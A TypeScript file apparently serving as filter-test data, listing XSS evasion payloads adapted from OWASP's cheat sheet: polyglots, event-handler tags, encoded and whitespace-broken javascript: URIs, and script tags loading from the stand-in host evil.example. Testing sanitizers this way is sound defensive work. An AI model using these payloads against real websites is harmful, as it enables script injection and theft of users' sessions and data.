/** Ways to write a script so that a filter overlooks it: the first half of OWASP's XSS Filter Evasion Cheat Sheet. */
import type { AttackClass } from './attack-class.ts';

const JS_IN_DECIMAL = [...'javascript:alert(1)'].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const JS_IN_LONG_DECIMAL = [...'javascript:alert(1)']
  .map((letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')}`)
  .join('');
const JS_IN_HEX = [...'javascript:alert(1)']
  .map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`)
  .join('');

export const EVASION_ATTACKS: readonly AttackClass[] = [
  {
    name: 'Basic XSS test without filter evasion',
    texts: [
      '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
      '<script>alert(1)</script>',
      '<script type="module">import "https://evil.example/xss.js"</script>',
    ],
  },
  {
    name: 'XSS locator (polyglot)',
    texts: [
      String.raw`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
      String.raw`';alert(1)//';alert(1)//";alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>`,
    ],
  },
  {
    name: 'Malformed A tags',
    texts: [
      '<a onmouseover="alert(1)">A price list</a>',
      '<a onmouseover=alert(1)>A price list</a>',
      String.raw`\<a onmouseover="alert(1)"\>A price list\</a\>`,
      '<a href="/coverage/" /onclick="alert(1)" x>A price list',
    ],
  },
  {
    name: 'Malformed IMG tags',
    texts: [
      '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
      '<img src="x` `<script>alert(1)</script>"` `>',
      '<img """ src=x onerror=alert(1) """>',
    ],
  },
  {
    name: 'fromCharCode',
    texts: [
      '<a href="javascript:alert(String.fromCharCode(88,83,83))">Read more</a>',
      '<img src=x onerror="alert(String.fromCharCode(88,83,83))">',
    ],
  },
  {
    name: 'Default SRC tag to get past filters that check SRC domain',
    texts: ['<IMG SRC=# onmouseover="alert(1)">', '<IMG SRC="/" onmouseenter="alert(1)" onload="alert(1)">'],
  },
  { name: 'Default SRC tag by leaving it empty', texts: ['<IMG SRC= onmouseover="alert(1)">'] },
  { name: 'Default SRC tag by leaving it out entirely', texts: ['<IMG onmouseover="alert(1)">'] },
  {
    name: 'On error alert',
    texts: [
      '<IMG SRC=/ onerror="alert(1)"></img>',
      '<img src=x:x onerror=alert(1)>',
      '<img src="https://evil.example/404.png" onerror="alert(1)">',
    ],
  },
  {
    name: 'IMG onerror and JavaScript alert encode',
    texts: [
      '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
      String.raw`<img src=x onerror="\u0061\u006cert(1)">`,
    ],
  },
  { name: 'Decimal HTML character references', texts: [`<a href="${JS_IN_DECIMAL}">Read more</a>`] },
  {
    name: 'Decimal HTML character references without trailing semicolons',
    texts: [`<a href="${JS_IN_LONG_DECIMAL}">Read more</a>`, `<img src=${JS_IN_LONG_DECIMAL}>`],
  },
  {
    name: 'Hexadecimal HTML character references without trailing semicolons',
    texts: [`<a href="${JS_IN_HEX}">Read more</a>`, `<iframe src="${JS_IN_HEX}"></iframe>`],
  },
  {
    name: 'Embedded tab',
    texts: ['<a href="jav\tascript:alert(1);">Read more</a>', '<IMG SRC="jav\tascript:alert(1);">'],
  },
  { name: 'Embedded encoded tab', texts: ['<a href="jav&#x09;ascript:alert(1);">Read more</a>'] },
  {
    name: 'Embedded newline to break up XSS',
    texts: [
      '<a href="jav&#x0A;ascript:alert(1);">Read more</a>',
      '<a href="j\na\nv\nascript:alert(1)">Read more</a>',
    ],
  },
  {
    name: 'Embedded carriage return to break up XSS',
    texts: ['<a href="jav&#x0D;ascript:alert(1);">Read more</a>', '<IMG\rSRC\r=\r"\rjavascript:alert(1)">'],
  },
  {
    name: 'Null breaks up JavaScript directive',
    texts: [
      '<a href="java\0script:alert(1)">Read more</a>',
      '<SCR\0IPT>alert(1)</SCR\0IPT>',
      '<img src=x o\0nerror=alert(1)>',
    ],
  },
  {
    name: 'Spaces and meta characters before the JavaScript in images for XSS',
    texts: [
      '<IMG SRC=" &#14;  javascript:alert(1);">',
      '<a href=" &#14;  javascript:alert(1);">Read more</a>',
      '<a href="\u0001\u0002javascript:alert(1)">Read more</a>',
      '<a href="\u00a0javascript:alert(1)">Read more</a>',
    ],
  },
  {
    name: 'Non-alpha-non-digit XSS',
    texts: [
      '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
      '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
      '<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
      '<img/src=x/onerror=alert(1)>',
    ],
  },
  {
    name: 'Extraneous open brackets',
    texts: ['<<SCRIPT>alert(1);//\\<</SCRIPT>', '<<<<img src=x onerror=alert(1)>'],
  },
  {
    name: 'No closing script tags',
    texts: ['<SCRIPT SRC=https://evil.example/xss.js?< B >', '<script>alert(1)'],
  },
  {
    name: 'Protocol resolution in script tags',
    texts: ['<SCRIPT SRC=//evil.example/.j>', '<img src=//evil.example/p.gif>'],
  },
  {
    name: 'Half open HTML/JavaScript XSS vector',
    texts: [
      '<IMG SRC="`<javascript:alert>`(1)"',
      '<img src=x onerror=alert(1) ',
      '<a href="javascript:alert(1)" ',
    ],
  },
  {
    name: 'Double open angle brackets',
    texts: ['<iframe src=https://evil.example/frame.html <', '<img src=x onerror=alert(1) <'],
  },
  {
    name: 'Escaping JavaScript escapes',
    texts: [
      String.raw`\";alert(1);//`,
      String.raw`</script><script>alert(1);</script>`,
      String.raw`'-alert(1)-'`,
      String.raw`\u003cimg src=x onerror=alert(1)\u003e`,
      String.raw`\x3cscript\x3ealert(1)\x3c/script\x3e`,
    ],
  },
  {
    name: 'End title tag',
    texts: [
      '</TITLE><SCRIPT>alert(1);</SCRIPT>',
      '</textarea><img src=x onerror=alert(1)>',
      '</noscript><img src=x onerror=alert(1)>',
    ],
  },
];
